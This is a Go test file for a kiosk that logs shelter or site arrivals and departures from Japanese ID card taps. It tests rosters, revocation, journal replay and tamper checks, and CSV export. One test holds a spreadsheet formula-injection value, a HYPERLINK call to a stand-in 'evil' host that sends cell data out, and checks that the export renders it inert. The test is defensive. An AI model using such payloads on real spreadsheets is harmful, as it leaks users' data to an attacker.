package kiosk_test

import (
	"bytes"
	"context"
	"crypto/ed25519"
	"crypto/rand"
	"crypto/sha256"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/jonboulle/clockwork"
	"github.com/mynagate/mynagate/gate"
	"github.com/mynagate/mynagate/gate/kiosk"
	"github.com/mynagate/mynagate/gate/manifest"
	"github.com/mynagate/mynagate/internal/gatetest"
	"github.com/mynagate/mynagate/internal/testkit"
	"github.com/mynagate/mynagate/jlis"
	"github.com/mynagate/mynagate/jpki"
)

// site has cards issued by the J-LIS simulator — A and B (Hanako) usable, C revoked — and the
// CA certificate and CRL snapshot a kiosk is given.
type site struct {
	clk   *clockwork.FakeClock
	cards map[string]*jpki.CardFile
	ca    []byte
	crl   []byte
	key   []byte // the roster's commit key
}

func newSite(t *testing.T) *site {
	t.Helper()
	ctx := context.Background()
	sim, clk, _ := testkit.Simulator(t)
	s := &site{clk: clk, cards: map[string]*jpki.CardFile{}, key: bytes.Repeat([]byte{5}, 32)}
	s.cards["A"] = testkit.Issue(t, sim, testkit.Taro()).Card
	s.cards["B"] = testkit.Issue(t, sim, testkit.Hanako()).Card
	s.cards["C"] = testkit.Issue(t, sim, testkit.Taro()).Card
	ref, err := sim.RefOf(s.cards["C"].Auth.Cert)
	if err != nil {
		t.Fatal(err)
	}
	if err := sim.Revoke(ctx, ref, jlis.CauseLost, clk.Now()); err != nil {
		t.Fatal(err)
	}
	clk.Advance(time.Minute)
	s.ca, s.crl, _ = testkit.AuthTrust(t, sim)
	return s
}

func (s *site) holder(n string) string {
	return manifest.Commit(s.key, sha256.Sum256(s.cards[n].Auth.Cert))
}

func (s *site) roster(mode string, people ...kiosk.Person) *kiosk.Roster {
	return &kiosk.Roster{Format: kiosk.RosterFormat, Site: "shelter-1", Name: "第一小学校", Mode: mode, CommitKey: s.key, Entries: people}
}

func (s *site) kiosk(t *testing.T, r *kiosk.Roster, key ed25519.PrivateKey, journal *bytes.Buffer, replay []gate.SignedRecord) *kiosk.Kiosk {
	t.Helper()
	c := kiosk.Config{Roster: r, CACerts: [][]byte{s.ca}, CRLs: [][]byte{s.crl}, ID: manifest.KeyID(key.Public().(ed25519.PublicKey)), Key: key,
		Clock: s.clk, Rand: rand.Reader, Replay: replay}
	if journal != nil {
		c.Journal = journal
	}
	k, err := kiosk.New(c)
	if err != nil {
		t.Fatal(err)
	}
	return k
}

// tap has card n answer a fresh challenge of k and, with facts, reads its support application.
func (s *site) tap(t *testing.T, k *kiosk.Kiosk, n string, facts bool) kiosk.Result {
	t.Helper()
	ch, err := k.NewChallenge()
	if err != nil {
		t.Fatal(err)
	}
	if !facts {
		return k.Tap(gatetest.TapCard(t, s.cards[n], ch), nil)
	}
	return k.Tap(gatetest.TapCardWithFacts(t, s.cards[n], ch, false))
}

func newKey(t *testing.T) ed25519.PrivateKey {
	_, k, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	return k
}

func wantKind(t *testing.T, r kiosk.Result, kind string) *kiosk.Record {
	t.Helper()
	if !r.Admit || r.Record == nil || r.Record.Kind != kind {
		t.Fatalf("result admit %v reason %q (%s) record %+v, want %s", r.Admit, r.Reason, r.Detail, r.Record, kind)
	}
	return r.Record
}

// An entry-pass site admits its roster's people, alternating arrival and departure, names them
// from the roster, and refuses anyone else, a revoked card and a replayed challenge.
func TestRosterAdmitAndRefuse(t *testing.T) {
	s := newSite(t)
	k := s.kiosk(t, s.roster(kiosk.ModeRoster, kiosk.Person{ID: "emp-001", Holder: s.holder("A"), Name: "山田　太郎"}), newKey(t), nil, nil)
	r := wantKind(t, s.tap(t, k, "A", false), kiosk.Arrive)
	if r.Person != "emp-001" || r.Name != "山田　太郎" || r.Source != kiosk.SourceRoster || r.Holder != s.holder("A") {
		t.Errorf("arrival record %+v", r)
	}
	if c := k.Counts(); c.Present != 1 || c.Arrivals != 1 || c.Roster != 1 {
		t.Errorf("counts %+v", c)
	}
	wantKind(t, s.tap(t, k, "A", false), kiosk.Leave)
	wantKind(t, s.tap(t, k, "A", false), kiosk.Arrive)
	if res := s.tap(t, k, "B", true); res.Admit || res.Reason != kiosk.NotOnRoster {
		t.Errorf("B not on the roster: %+v", res)
	}
	if res := s.tap(t, k, "C", false); res.Reason != gate.CertificateRevoked {
		t.Errorf("revoked card: %+v", res)
	}
	// A tap answering a challenge already used is refused.
	ch, err := k.NewChallenge()
	if err != nil {
		t.Fatal(err)
	}
	tp := gatetest.TapCard(t, s.cards["A"], ch)
	k.Tap(tp, nil)
	if res := k.Tap(tp, nil); res.Reason != gate.ChallengeInvalid {
		t.Errorf("replayed tap: %+v", res)
	}
	if c := k.Counts(); c.Present != 0 || c.Arrivals != 2 || c.Departures != 2 {
		t.Errorf("counts after the taps %+v", c)
	}
}

// A shelter records everyone whose card checks, with the name and age band read from the card's
// support application and the source said; a revoked card is still refused; the kiosk stops
// deciding once the CRL snapshot is past its nextUpdate.
func TestOpenShelterRecordsArrivals(t *testing.T) {
	s := newSite(t)
	k := s.kiosk(t, s.roster(kiosk.ModeOpen), newKey(t), nil, nil)
	r := wantKind(t, s.tap(t, k, "B", true), kiosk.Arrive)
	b4 := testkit.Hanako()
	if r.Name != b4.Name || r.Source != kiosk.SourceCard || r.AgeBand != kiosk.AgeBand(b4.Birth, s.clk.Now()) || r.AgeBand == "" || r.Person != "" {
		t.Errorf("arrival %+v", r)
	}
	r = wantKind(t, s.tap(t, k, "A", false), kiosk.Arrive)
	if r.Name != "" || r.Source != "" {
		t.Errorf("a tap without reading the facts has facts: %+v", r)
	}
	if res := s.tap(t, k, "C", true); res.Reason != gate.CertificateRevoked {
		t.Errorf("revoked card at the shelter: %+v", res)
	}
	if c := k.Counts(); c.Present != 2 || c.Arrivals != 2 {
		t.Errorf("counts %+v", c)
	}
	s.clk.Advance(60 * 24 * time.Hour)
	if res := s.tap(t, k, "B", false); res.Reason != gate.ManifestStale {
		t.Errorf("after the CRL's nextUpdate: %+v", res)
	}
	if _, err := kiosk.New(kiosk.Config{Roster: s.roster(kiosk.ModeOpen), CACerts: [][]byte{s.ca}, CRLs: [][]byte{s.crl}, ID: "k", Key: newKey(t), Clock: s.clk, Rand: rand.Reader}); err == nil ||
		!strings.Contains(err.Error(), "expired") {
		t.Errorf("a kiosk opened on an expired CRL: %v", err)
	}
}

func TestAgeBand(t *testing.T) {
	at := time.Date(2026, 12, 6, 0, 0, 0, 0, time.UTC) // 09:00 JST
	for _, c := range []struct {
		birth jpki.Date
		want  string
	}{
		{jpki.Date{Year: 2026, Month: 1, Day: 1}, "0-5"},
		{jpki.Date{Year: 2020, Month: 12, Day: 7}, "0-5"}, // 6 tomorrow
		{jpki.Date{Year: 2020, Month: 12, Day: 6}, "6-12"},
		{jpki.Date{Year: 2009, Month: 1, Day: 1}, "13-17"},
		{jpki.Date{Year: 1980, Month: 5, Day: 5}, "18-64"},
		{jpki.Date{Year: 1960, Month: 1, Day: 1}, "65-74"},
		{jpki.Date{Year: 1930, Month: 1, Day: 1}, "75+"},
		{jpki.Date{Year: 2027, Month: 1, Day: 1}, ""},
	} {
		if got := kiosk.AgeBand(c.birth, at); got != c.want {
			t.Errorf("AgeBand(%s) = %q, want %q", c.birth, got, c.want)
		}
	}
}

// The journal is written before the answer and replayed at start: a restarted kiosk knows who
// is in, so the next tap is a departure. A journal of another kiosk key, a tampered line or a
// record of another site stops the start; a torn last line is ignored.
func TestJournalReplay(t *testing.T) {
	s := newSite(t)
	ro := s.roster(kiosk.ModeOpen)
	key := newKey(t)
	var j bytes.Buffer
	k := s.kiosk(t, ro, key, &j, nil)
	wantKind(t, s.tap(t, k, "A", false), kiosk.Arrive)
	wantKind(t, s.tap(t, k, "B", false), kiosk.Arrive)
	wantKind(t, s.tap(t, k, "B", false), kiosk.Leave)
	torn := append(bytes.Clone(j.Bytes()), []byte(`{"record":"eyJ`)...)
	replay, err := gate.ReadJournal(bytes.NewReader(torn))
	if err != nil || len(replay) != 3 {
		t.Fatalf("journal: %d records, %v", len(replay), err)
	}
	k2 := s.kiosk(t, ro, key, nil, replay)
	if c := k2.Counts(); c.Present != 1 || c.Arrivals != 2 || c.Departures != 1 {
		t.Errorf("replayed counts %+v", c)
	}
	r := wantKind(t, s.tap(t, k2, "A", false), kiosk.Leave)
	if r.Seq != 4 {
		t.Errorf("seq after replay %d, want 4", r.Seq)
	}
	cfg := func(key ed25519.PrivateKey, ro *kiosk.Roster, replay []gate.SignedRecord) error {
		_, err := kiosk.New(kiosk.Config{Roster: ro, CACerts: [][]byte{s.ca}, CRLs: [][]byte{s.crl}, ID: manifest.KeyID(key.Public().(ed25519.PublicKey)),
			Key: key, Clock: s.clk, Rand: rand.Reader, Replay: replay})
		return err
	}
	if err := cfg(newKey(t), ro, replay); err == nil {
		t.Error("another kiosk key's journal was replayed")
	}
	bad := append([]gate.SignedRecord(nil), replay...)
	bad[1].Record = bytes.Replace(bad[1].Record, []byte(`"arrive"`), []byte(`"leave"`), 1)
	if err := cfg(key, ro, bad); err == nil {
		t.Error("a tampered journal line was replayed")
	}
	other := *ro
	other.Site = "shelter-2"
	if err := cfg(key, &other, replay); err == nil || !strings.Contains(err.Error(), "shelter-1") {
		t.Errorf("another site's journal: %v", err)
	}
}

func readCSV(t *testing.T, b []byte) [][]string {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

// Names are the holder's or the roster's, so they are hostile input to a spreadsheet: every
// cell starting with = + - @ is exported as text.
func TestCSVExportRefusesFormulas(t *testing.T) {
	s := newSite(t)
	hostile := []string{`=HYPERLINK("http://evil/?"&A1,"x")`, "+81 3", "-1+1", "@SUM(A1)"}
	ro := s.roster(kiosk.ModeRoster,
		kiosk.Person{ID: "p1", Holder: s.holder("A"), Name: hostile[0]},
		kiosk.Person{ID: "p2", Holder: s.holder("B"), Name: hostile[1]},
		kiosk.Person{ID: "p3", Holder: manifest.Commit(s.key, sha256.Sum256([]byte("x"))), Name: hostile[2]},
		kiosk.Person{ID: "p4", Holder: manifest.Commit(s.key, sha256.Sum256([]byte("y"))), Name: hostile[3]})
	k := s.kiosk(t, ro, newKey(t), nil, nil)
	wantKind(t, s.tap(t, k, "A", false), kiosk.Arrive)
	wantKind(t, s.tap(t, k, "B", false), kiosk.Arrive)
	wantKind(t, s.tap(t, k, "B", false), kiosk.Leave)

	var roster, recs bytes.Buffer
	if err := kiosk.WriteRosterCSV(&roster, ro, k.Records()); err != nil {
		t.Fatal(err)
	}
	if err := kiosk.WriteRecordsCSV(&recs, k.Records()); err != nil {
		t.Fatal(err)
	}
	rows := readCSV(t, roster.Bytes())
	if len(rows) != 5 || strings.Join(rows[0], ",") != "person,name,present,last_arrival,last_departure,holder" {
		t.Fatalf("roster CSV:\n%s", roster.String())
	}
	for i, h := range hostile {
		if got := rows[i+1][1]; got != "'"+h {
			t.Errorf("roster name %q exported as %q, want it quoted as text", h, got)
		}
	}
	if rows[1][2] != "yes" || rows[2][2] != "no" || rows[3][2] != "no" || rows[2][4] == "" {
		t.Errorf("presence: %v", rows)
	}
	for _, row := range append(rows, readCSV(t, recs.Bytes())...) {
		for _, c := range row {
			if c != "" && strings.ContainsRune("=+-@", rune(c[0])) {
				t.Errorf("a cell starts a formula: %q", c)
			}
		}
	}
	if rr := readCSV(t, recs.Bytes()); len(rr) != 4 || rr[1][4] != "arrive" || rr[3][4] != "leave" || rr[1][6] != "'"+hostile[0] {
		t.Errorf("records CSV:\n%s", recs.String())
	}
}

// Reconcile merges the journals of a shelter's two kiosks into one row per person (a person
// arriving at one kiosk and leaving at the other), counts a journal given twice once, and
// rejects lines of an unknown kiosk, of another site and with a bad signature.
func TestReconcile(t *testing.T) {
	s := newSite(t)
	ro := s.roster(kiosk.ModeOpen)
	k1key, k2key := newKey(t), newKey(t)
	var j1, j2 bytes.Buffer
	k1, k2 := s.kiosk(t, ro, k1key, &j1, nil), s.kiosk(t, ro, k2key, &j2, nil)
	wantKind(t, s.tap(t, k1, "B", true), kiosk.Arrive)
	s.clk.Advance(time.Minute)
	wantKind(t, s.tap(t, k1, "A", true), kiosk.Arrive)
	s.clk.Advance(time.Hour)
	// Kiosk 2 knows nothing of kiosk 1 (offline): B's tap there is an arrival in its journal.
	wantKind(t, s.tap(t, k2, "B", false), kiosk.Arrive)
	s.clk.Advance(time.Minute)
	wantKind(t, s.tap(t, k2, "B", false), kiosk.Leave)

	read := func(b *bytes.Buffer) []gate.SignedRecord {
		r, err := gate.ReadJournal(bytes.NewReader(b.Bytes()))
		if err != nil {
			t.Fatal(err)
		}
		return r
	}
	l1, l2 := read(&j1), read(&j2)
	foreign := newKey(t)
	fr, _ := kiosk.Record{Site: "shelter-1", Kiosk: manifest.KeyID(foreign.Public().(ed25519.PublicKey)), Seq: 1, At: s.clk.Now(), Kind: kiosk.Arrive, Holder: "x"}.Sign(foreign)
	os, _ := kiosk.Record{Site: "shelter-9", Kiosk: manifest.KeyID(k1key.Public().(ed25519.PublicKey)), Seq: 9, At: s.clk.Now(), Kind: kiosk.Arrive, Holder: "y"}.Sign(k1key)
	tampered := l2[0]
	tampered.Record = bytes.Replace(bytes.Clone(tampered.Record), []byte(`"seq":1`), []byte(`"seq":7`), 1)
	var lines []gate.SignedRecord
	lines = append(append(append(lines, l1...), l2...), l1...)
	lines = append(lines, fr, os, tampered)
	rep := kiosk.Reconcile("shelter-1", []ed25519.PublicKey{k1key.Public().(ed25519.PublicKey), k2key.Public().(ed25519.PublicKey)}, lines)
	if len(rep.Records) != 4 || rep.Duplicates != 2 || len(rep.Rejected) != 3 {
		t.Fatalf("records %d duplicates %d rejected %+v", len(rep.Records), rep.Duplicates, rep.Rejected)
	}
	if len(rep.People) != 2 {
		t.Fatalf("people %+v", rep.People)
	}
	b, a := rep.People[0], rep.People[1]
	if b.Name != testkit.Hanako().Name || b.Arrivals != 2 || b.Departures != 1 || b.Present || len(b.Kiosks) != 2 {
		t.Errorf("B: %+v", b)
	}
	if a.Name != testkit.Taro().Name || !a.Present || a.Arrivals != 1 {
		t.Errorf("A: %+v", a)
	}
	var out bytes.Buffer
	if err := kiosk.WriteReconcileCSV(&out, rep); err != nil {
		t.Fatal(err)
	}
	rows := readCSV(t, out.Bytes())
	if len(rows) != 3 || rows[1][2] != testkit.Hanako().Name || rows[1][8] != "no" || rows[2][8] != "yes" {
		t.Errorf("reconcile CSV:\n%s", out.String())
	}
	js, _ := json.Marshal(rep.Rejected)
	for _, w := range []string{"unknown kiosk", "shelter-9", "signature"} {
		if !strings.Contains(string(js), w) {
			t.Errorf("rejected lines lack %q: %s", w, js)
		}
	}
}
